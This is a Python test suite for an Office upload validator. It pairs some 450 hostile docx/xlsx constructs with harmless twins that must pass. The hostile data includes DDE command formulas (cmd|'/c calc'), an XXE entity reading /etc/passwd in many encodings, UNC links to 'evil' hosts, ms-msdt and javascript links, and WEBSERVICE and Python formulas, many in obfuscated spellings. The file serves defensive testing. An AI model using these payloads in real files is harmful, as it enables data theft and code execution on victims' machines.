"""Office files: some 450 ways in which one acts, each with a harmless twin that passes.

Both of a pair are the same file but for the one thing; so a validation that refused
everything, or the form of a thing and not what it does, would fail here.
"""

import io
import zipfile
from xml.sax.saxutils import escape

import pytest
from tests.web.platform.test_upload_validation import picture

from prongsai.core.errors import UnreadableInput
from prongsai.web.platform.upload_validation import checked
from prongsai.web.platform.upload_validation.fields import (
    ActiveContent,
    can_hold_field,
    check_field,
)

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MAIN = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
}
PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
RELATIONS = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}


def package(kind, parts=None, types=""):
    """A file of Office with some parts of its own or further ones."""
    root = "w:document" if kind == "docx" else "workbook"
    space = f'xmlns:w="{WORD}"' if kind == "docx" else f'xmlns="{SHEET}"'
    told = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
            '/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            f'"application/xml"/><Override PartName="/{PART[kind]}" ContentType="{MAIN[kind]}"/>'
            f"{types}</Types>"
        ),
        PART[kind]: f"<{root} {space}/>",
    } | (parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in told.items():
            archive.writestr(name, data)
    return f"a.{kind}", out.getvalue()


def related(relation, kind="docx"):
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return package(
        kind, {RELATIONS[kind]: f'<Relationships xmlns="{space}">{relation}</Relationships>'}
    )


def relation(name, target, mode='TargetMode="External"'):
    return f'<Relationship Id="r1" Type="{OFFICE}/{name}" Target="{target}" {mode}/>'


def body(told):
    return package(
        "docx", {"word/document.xml": f'<w:document xmlns:w="{WORD}">{told}</w:document>'}
    )


def runs(*texts, tag="w:instrText"):
    """A field whose instruction is spread over runs."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    middle = "".join(f"<w:r><{tag}>{text}</{tag}></w:r>" for text in texts)
    end = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
    return f'<w:p>{begin}{middle}{end}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def simple(told):
    return f'<w:p><w:fldSimple w:instr="{told}"/></w:p>'


def sheet(told):
    return package(
        "xlsx", {"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}">{told}</worksheet>'}
    )


def formula(told, tag="f"):
    return sheet(f"<sheetData><row><c><{tag}>{told}</{tag}></c></row></sheetData>")


def typed(told):
    return package("docx", types=f'<Override PartName="/word/x.xml" ContentType="{told}"/>')


PAIRS = {}
# A relation to elsewhere, in every spelling of XML.
OUTSIDE = {
    "plain": 'TargetMode="External"',
    "single quotes": "TargetMode='External'",
    "spaces": 'TargetMode  =  "External"',
    "line break": 'TargetMode\n=\n"External"',
    "letter by number": 'TargetMode="&#69;xternal"',
    "letter by hex": 'TargetMode="&#x45;xternal"',
    "lower case": 'TargetMode="external"',
    "blanks inside": 'TargetMode=" External "',
}
for spelling, mode in OUTSIDE.items():
    for kind in ("image", "theme", "settings"):
        PAIRS[f"{kind} from elsewhere, {spelling}"] = (
            related(relation(kind, "http://x.example/a", mode)),
            related(relation("hyperlink", "http://x.example/a", mode)),
        )
for kind in (
    "attachedTemplate", "aFChunk", "subDocument", "frame", "oleObject", "package", "control",
    "mailMergeSource", "recipientData", "externalLink", "externalLinkPath", "connections",
    "queryTable", "vbaProject", "wordVbaData", "xlMacrosheet", "webextension", "customUI",
    "video", "audio", "keyMapCustomizations", "attachedToolbars",
):  # fmt: skip
    for mode in ('TargetMode="External"', ""):
        PAIRS[f"relation {kind} {mode[:10]}"] = (
            related(relation(kind, "x/a.xml", mode)),
            related(relation("styles" if not mode else "hyperlink", "x/a.xml", mode)),
        )
for target in (
    "javascript:alert(1)", "vbscript:x", "data:text/html,x", "file://server/share/x",
    "\\\\server\\share", "//server/share", "ms-msdt:/id", "search-ms:query=x", "ms-word:ofe|u|x",
):  # fmt: skip
    PAIRS[f"link {target}"] = (
        related(relation("hyperlink", target)),
        related(relation("hyperlink", "https://www.nacc.go.th/")),
    )
# One disk, in every spelling that some reader takes for another machine's or for a program's.
for target, twin in (
    ("file:///%5C%5Cevil%5Cshare", "file:///C:/%E0%B8%81/b.pdf"),
    ("file:///%2F%2Fevil/share", "https://x.go.th/%2F%2Fa"),
    ("file:///%252F%252Fevil/share", "https://x.go.th/%252Fa"),
    ("file:///?/UNC/evil/share", "https://x.go.th/?/UNC/a"),
    ("file:///C:/?/UNC/evil/share", "file:///C:/b.xlsx#S!A1"),
    ("file:///evil@80/DavWWWRoot/x", "https://x.go.th/a@80/x"),
    ("file:///C:/x@80/a", "Z:\\a\\b.pdf"),
    ("file:/evil/share", "C:/b.pdf"),
    ("file:///.//evil", "./b.pdf"),
    ("C:\\..\\..\\\\?\\UNC\\evil", "C:\\งาน\\..\\b.pdf"),
    ("/?/UNC/evil", "b/c.pdf"),
    ("UNC\\evil\\x", "UNCLE\\x.pdf"),
    ("http:\\\\evil", "http://x.go.th"),
    ("%66ile://evil/a", "%66ile.pdf"),
    ("%2566ile://evil/a", "file%25.pdf"),
    ("\uff46ile://evil", "\uff46ile.pdf"),
    ("fi\u00adle://evil/a", "fi\u00adle.pdf"),
    ("&lt;file://evil/a&gt;", "แผน.pdf"),
    ("file:///C:/Windows/System32/calc.exe", "file:///C:/Windows/calc.exe.pdf"),
    ("Z:\\evil.EXE. ", "Z:\\evil.pdf"),
    ("C:/a.txt:b.exe", "C:/a.txt"),
    ("C:/a.com", "www.example.com"),
    ("C:/a.exe#x", "C:/a.exe.d/x.pdf"),
    ("../a.lnk", "../a.docx"),
    *((f"C:/a.{ending}", f"C:/{ending}.pdf") for ending in (
        "bat", "cmd", "scr", "ps1", "vbs", "js", "msi", "hta", "jar", "url", "xlsm")),
):  # fmt: skip
    PAIRS[f"link {target}"] = (
        related(relation("hyperlink", target)),
        related(relation("hyperlink", twin)),
    )
PAIRS["address without a mode"] = (
    related(relation("image", "http://x.example/a.png", "")),
    related(relation("image", "media/a.png", "")),
)
# Parts by what they are, whatever they are called.
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64
for name in (
    "word/media/image1.png",
    "word/embeddings/a.bin",
    "word/a.xml",
    "customXml/item.bin",
    "x",
):
    for what, data in (
        ("ole", OLE),
        ("program", b"MZ\x90"),
        ("archive", b"PK\x03\x04x"),
        ("pdf", b"%PDF-1.7"),
    ):
        PAIRS[f"{what} as {name}"] = (
            package("docx", {name: data}),
            package("docx", {name: picture("PNG")}),
        )
PAIRS["macros of excel"] = (
    package("xlsx", {"xl/vbaProject.bin": OLE}),
    package("xlsx", {"xl/printerSettings/printerSettings1.bin": b"P\0r\0i\0n\0t"}),
)
PAIRS["unknown bytes"] = (
    package("docx", {"word/data.bin": b"\x13\x37\0\1"}),
    package("docx", {"word/fonts/font1.odttf": b"\x13\x37\0\1"}),
)
for told in (
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-office.vbaProject",
    "application/vnd.ms-office.activeX+xml",
    "application/vnd.openxmlformats-officedocument.oleObject",
    "application/vnd.ms-excel.macrosheet+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    "application/vnd.ms-office.webextension+xml",
    "text/html", "application/rtf", "message/rfc822+mht",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    "application/vnd.ms-word.keyMapCustomizations+xml",
):  # fmt: skip
    PAIRS[f"type {told}"] = (
        typed(told),
        typed("application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"),
    )
# A declaration of entities, in every encoding and under every name.
ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
ENCODINGS = {
    "utf-8": ENTITY.encode(), "utf-8 with a mark": ENTITY.encode("utf-8-sig"),
    "utf-16": ENTITY.encode("utf-16"),
    "utf-16-be": b"\xfe\xff" + ENTITY.encode("utf-16-be"),
    "utf-16 without a mark": ENTITY.encode("utf-16-le"),
    "utf-32": ENTITY.encode("utf-32"),
    "utf-7": b'<?xml version="1.0" encoding="utf-7"?>' + ENTITY.encode("utf-7"),
    "utf-7 without a head": ENTITY.encode("utf-7"),
    "ebcdic": f'<?xml version="1.0" encoding="cp037"?>{ENTITY}'.encode("cp037"),
    "latin": b'<?xml version="1.0" encoding="iso-8859-1"?>' + ENTITY.encode(),
    "lower case": ENTITY.replace("DOCTYPE", "doctype").encode(),
    "after a comment": b"<!-- x -->" + ENTITY.encode(),
}  # fmt: skip
for encoding, data in ENCODINGS.items():
    for name in ("word/x.xml", "word/x.XML", "word/x.bin", "docProps/app"):
        PAIRS[f"entity in {encoding} as {name}"] = (
            package("docx", {name: data}),
            package("docx", {name: "<a>x</a>".encode("utf-16" if "16" in encoding else "utf-8")}),
        )
PAIRS["style sheet"] = (
    package("docx", {"word/x.xml": '<?xml-stylesheet href="http://x/a.xsl"?><a/>'}),
    package("docx", {"word/x.xml": '<?mso-application progid="Word.Document"?><a/>'}),
)
# Fields, in every spelling that Word takes.
PAGE = runs("PAGE")
for name in (
    "DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "INCLUDE", "IMPORT", "LINK", "DATABASE",
    "RD",
):  # fmt: skip
    for spelling, told in {
        "plain": runs(f" {name} x y "),
        "lower": runs(f"{name.lower()} x"),
        "split": runs(*name, " x"),
        "one field": simple(f" {name.title()} x"),
        "deleted": runs(name, tag="w:delInstrText"),
        "without a field": f"<w:r><w:instrText>{name} x</w:instrText></w:r>",
    }.items():
        PAIRS[f"field {name}, {spelling}"] = (body(told), body(PAGE + simple("DATE")))
PAIRS["field named by a field"] = (
    body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs("QUOTE 68 68 69")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    body(
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IF 1 = </w:instrText></w:r>'
        + PAGE
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
)
# The name of a field ends where its letters end; letters that print nothing hide none of it.
for told, twin in (
    ('DDEAUTO"c:\\x" "y"', ' HYPERLINK \\l "_Toc123" '),
    ('INCLUDEPICTURE"http://evil/x" \\d', " PAGEREF _Toc123 \\h "),
    ('LINK"Excel.Sheet" "x"', ' HYPERLINK "https://x.go.th/a" \\o "tip" '),
    ('IMPORT"x"', ' HYPERLINK "#_Toc1" \\h '),
    ('INCLUDETEXT\\* "x"', ' TOC \\o "1-3" \\h \\z \\u '),
    ('\u200bINCLUDETEXT "x"', 'HYPERLINK "https://x.go.th/a" \\l "part" \\n'),
    ('INC\u00adLUDETEXT "x"', 'HYPERLINK \\o "file://tip" "mailto:a@x.go.th"'),
    ('"INCLUDETEXT" "x"', "= SUM(ABOVE)"),
    ('\uff29NCLUDETEXT "x"', 'HYPERLINK "C:\\\\งาน\\\\แผน.xlsx"'),
    ("EMBED Package", " EDITTIME "),
    ('PRINT "x"', "PRINTDATE"),
    ("MACROBUTTON FileExit x", " MERGEFIELD ชื่อ "),
    ('HYPERLINK"file://evil/a"', 'HYPERLINK"https://evil.example/a"'),
    ('HYPERLINK \\n "file://evil/a"', 'HYPERLINK \\n "https://x.go.th/a"'),
    ('HYPERLINK \\l \\o "file://evil/a"', 'HYPERLINK \\l "file" \\o "ก"'),
    ('HYPERLINK \\o "tip" "\\\\\\\\evil\\\\x"', 'HYPERLINK "https://x.go.th" \\t "_blank"'),
    ("HYPERLINK \\\\evil\\x", "HYPERLINK https://x.go.th"),
    ('HYPERLINK "\\\\evil\\x"', 'HYPERLINK "แผน.docx"'),
    ("HYPERLINK \u201cfile://evil/a\u201d", "HYPERLINK \u201chttps://x.go.th/a\u201d"),
    ('HYPERLINK "" \\l "a" "file://evil/a"', 'HYPERLINK "" \\l "a" "https://x.go.th"'),
):
    PAIRS[f"field {told}"] = (body(runs(escape(told))), body(runs(escape(twin))))
PAIRS["field typed as text of the page"] = (
    body(runs("INCLUDETEXT x", tag="w:t")),
    body("<w:r><w:t>INCLUDETEXT x</w:t></w:r>"),
)
BEGIN, END = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
)
for told, twin in (
    ("\u200b", "="),
    ("INCLUDE", "IF "),
    (' HYPERLINK "', ' QUOTE "'),
):
    for inner in (runs("QUOTE 68"), simple("QUOTE 68")):
        PAIRS[f"field in {told} as {inner[:20]}"] = (
            body(f"{BEGIN}<w:instrText>{told}</w:instrText>{inner}{END}"),
            body(f"{BEGIN}<w:instrText>{twin}</w:instrText>{inner}{END}"),
        )
for element in (
    "altChunk", "subDoc", "attachedTemplate", "mailMerge", "frameset", "webVideoPr", "OLEObject",
):  # fmt: skip
    PAIRS[f"element {element}"] = (body(f"<w:{element}/>"), body("<w:p/>"))
for element in ("imagedata", "fill", "stroke"):
    for target in ("http://x/a.png", "\\\\x\\a", "file://x/a"):
        PAIRS[f"{element} from {target}"] = (
            body(f'<w:{element} src="{target}"/>'),
            body(f'<w:{element} src="media/a.png"/>'),
        )
# Formulas that call for something, beside those that name it.
for told, twin in (
    ('WEBSERVICE("http://x")', 'CONCATENATE("WEBSERVICE(", A1)'),
    ('HYPERLINK("file://evil/x.exe","ก")', 'HYPERLINK("https://example.go.th/a","ก")'),
    ('hyperlink ( "javascript:alert(1)")', 'HYPERLINK("#Sheet1!A1","ก")'),
    ('HYPERLINK("\\\\evil\\x.exe")', 'HYPERLINK("C:\\งาน\\แผน.xlsx")'),
    ('HYPERLINK("fi"&amp;"le://evil/x.exe")', 'HYPERLINK("mailto:a@example.go.th")'),
    ("HYPERLINK(A1)", '"HYPERLINK"&amp;A1'),
    ("'a\"b'!A1&amp;WEBSERVICE(\"http://x\"&amp;'a\"b'!A1)", "'a\"b'!A1&amp;'a\"b'!A2"),
    ("'a\"b'!A1+cmd|'/c calc'!A1+'a\"b'!A1", "'a\"b'!A1+1"),
    ("MAP(A2,_xleta.WEBSERVICE)", "MAP(A2,B2)"),
    ('(WEBSERVICE)("http://x")', "(A1)"),
    ("'\\\\evil''s\\s\\[b.xlsx]S'!A1", "'it''s'!A1"),
    ("'\\\\evil\\s\\b.xlsx'!name", "'S 1'!name"),
    ('HYPERLINK("javascript:"&amp;A2)', 'HYPERLINK("https://example.go.th/"&amp;A2)'),
    ("'\\\\evil\\[x.xlsx]S'!A1", "'งาน [ก]'!A1"),
    ("SUM('https://evil/[x.xlsx]S'!A1)", "SUM('แผน 1/2569'!A1)"),
    ("_xlfn.WEBSERVICE(A1)", "SUM(A1)"),
    ("webservice (A1)", "WEBSERVICES+1"),
    ("_xlfn.IMAGE(A1)", "IMAGES(A1)"),
    ('RTD("x",,"y")', "DAYS(A1,A2)"),
    ('CALL("x")', "RECALL(A1)"),
    ('REGISTER.ID("x")', "REGISTERED.ID(A1)"),
    ("cmd|'/c calc'!A1", 'A1&amp;"|"&amp;Sheet2!B1'),
    ("+cmd|'/c calc'!A1", "\"cmd|'/c calc'!A1\""),
    ("1+MSEXCEL|'\\x'!''", "A1+B1"),
    ("SUM(cmd|x!A1)", "SUM(Sheet1!A1)"),
    ("A1:cmd|'/c calc'!A1", "'แผน|ผล'!A1"),
    ("'cmd'|'/c calc'!A1", "'cmd'!A1"),
    ("@cmd|'/c calc'!A1", "@cmd"),
    ("{cmd|'/c calc'!A1}", "{1,2;3,4}"),
    ("1%cmd|'/c x'!A1", '"1%cmd|x!A1"'),
    ("กcmd|'/c x'!A1", "'กcmd|'!A1"),
    # What begins a text in one place is a letter of a name in another.
    ('"a\'"&amp;cmd|x!A1&amp;"\'!"', '"a\'"&amp;"cmd|x!A1"&amp;"\'!"'),
    ('T[["]]&amp;cmd|x!A1&amp;"x"', 'T[["]]&amp;"cmd|x!A1"'),
    ("T[[']]]&amp;cmd|x!A1&amp;\"'!\"", "T[[']]]&amp;\"cmd|x!A1'!\""),
    ('_xlfn.STOCKHISTORY("x")', "STOCK+HISTORY(A1)"),
    ('_xlfn.PY("import os")', "COPY(A1)"),
    ("_xldudf_PY(1)", "PYTHON(1)"),
    ('_xlfn.COPILOT("x")', "PILOT(A1)"),
    ('_xlfn.TRANSLATE("a")', "TRANSLATED(A1)"),
    ('CUBEVALUE("x","y")', "CUBE+VALUE(A1)"),
    ('HYPERLINK(B1,"x")', 'HYPERLINK("https://x.go.th","x")'),
    ('HYPERLINK("file:///%5C%5Cevil%5Cshare","x")', 'HYPERLINK("file:///C:/งาน/แผน.pdf","x")'),
):
    for tag in ("f", "formula1", "definedName", "calculatedColumnFormula"):
        PAIRS[f"{tag} {told}"] = (formula(told, tag), formula(twin, tag))
for element in ("ddeLink", "oleLink", "externalBook", "connection", "queryTable"):
    PAIRS[f"element {element}"] = (sheet(f"<{element}/>"), sheet("<sheetData/>"))


def test_there_are_many():
    assert len(PAIRS) >= 150


@pytest.mark.parametrize("kind", PAIRS)
def test_what_acts_is_refused_and_its_harmless_twin_passes(kind):
    hostile, harmless = PAIRS[kind]
    with pytest.raises(UnreadableInput) as refused:
        checked(*hostile)
    assert refused.value.next_step.th
    assert checked(*harmless).data == harmless[1]


def test_names_that_differ_by_case_alone_are_refused():
    """Two readers would take two different parts."""
    with pytest.raises(UnreadableInput):
        checked(*package("docx", {"word/Document.xml": "<a/>"}))


def test_xml_nested_without_end_is_refused():
    with pytest.raises(UnreadableInput):
        checked(*package("docx", {"word/x.xml": "<a>" * 300 + "</a>" * 300}))


def test_a_link_put_together_is_refused_with_how_to_write_it():
    with pytest.raises(UnreadableInput, match="HYPERLINK") as refused:
        checked(*formula('HYPERLINK(B1,"x")'))
    assert "Ctrl+K" in refused.value.next_step.en
    assert "Ctrl+K" in refused.value.next_step.th


@pytest.mark.parametrize(
    "told",
    [
        "", " PAGE ", r'DATE \@ "HH:mm"', r'TIME \@ "HH:mm"', "= 1 + 2",
        "PRINTDATE",
        "HYPERLINK https://www.example.go.th/oit",
        ' HYPERLINK "https://www.example.go.th/oit" ',
        r'HYPERLINK \l "javascript:x"',  # a place in the document
        r'HYPERLINK \O "javascript:x" "https://www.example.go.th"',  # a tip
        r'HYPERLINK "https://www.example.go.th" \t "vbscript:x"',  # a frame
    ],
)  # fmt: skip
def test_a_field_that_brings_nothing_in_passes(told):
    check_field(told)


@pytest.mark.parametrize(
    ("told", "what"),
    [
        ("PRINT\tDATE", "PRINT"),
        ("__IncludeText x", "IncludeText"),
        (" dde x", "dde"),
        ("HYPERLINK javascript:x", "javascript:x"),
        ('HYPERLINK "javascript:x"', "javascript:x"),
        ('HYPERLINK "javascript:x', "javascript:x"),
        (' hyperlink "https://www.example.go.th" javascript:x', "javascript:x"),
        (r'HYPERLINK \l "a" "javascript:x"', "javascript:x"),
        (r'HYPERLINK \n "javascript:x"', "javascript:x"),
        # A switch where the place was due: readers differ.
        (r'HYPERLINK \l \t "javascript:x"', "javascript:x"),
        ('HYPERLINK "//server/x"', "//server/x"),
        # Two strokes are one as Word means it, and another machine as it is written.
        (r'HYPERLINK "\\server\x"', r"\\server\x"),
    ],
)
def test_a_field_that_acts_is_named(told, what):
    with pytest.raises(ActiveContent) as acts:
        check_field(told)
    assert str(acts.value) == what


@pytest.mark.parametrize(
    ("told", "may"),
    [
        (" = ", True), ("IF ", True), (' DATE "', True), (" IF x", True),
        ("", False), (" ", False), ("IF", False), (" PAGE", False),
        ("HYPERLINK ", False), (' Hyperlink "https://', False),
    ],
)  # fmt: skip
def test_a_field_in_a_field_gives_no_name_and_no_address(told, may):
    assert can_hold_field(told) is may
